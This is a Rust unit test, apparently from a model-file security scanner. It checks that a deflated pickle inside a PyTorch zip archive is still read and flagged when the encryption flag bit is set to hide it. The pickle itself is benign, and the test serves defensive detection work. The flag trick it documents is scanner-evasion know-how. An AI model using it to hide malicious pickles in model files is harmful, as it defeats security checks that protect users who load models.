/// A deflated `data.pkl` behind the encryption flag is inflated as PyTorch would read it
/// (the flag ignored), so its pickle reaches the ML rules.
#[test]
fn arc011_encrypted_flag_on_a_deflated_member_is_read() {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let o = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    w.start_file("archive/data.pkl", o).unwrap();
    std::io::Write::write_all(&mut w, b"\x80\x02}q\x00X\x01\x00\x00\x00wq\x01K\x01s.").unwrap();
    let mut z = w.finish().unwrap().into_inner();
    // Flag bit 0 in the local header (offset 6) and the central entry (offset 8).
    let lh = memchr::memmem::find(&z, b"PK\x03\x04").unwrap();
    let cd = memchr::memmem::find(&z, b"PK\x01\x02").unwrap();
    z[lh + 6] |= 1;
    z[cd + 8] |= 1;
    let a = read("model.pt", &z);
    assert!(has(&a, "ARC011"), "{}", describe(&a));
    let e = a.entry("archive/data.pkl").unwrap();
    assert_eq!(e.file_kind, FileKind::Pickle, "{}", describe(&a));
    assert!(e.complete);
}
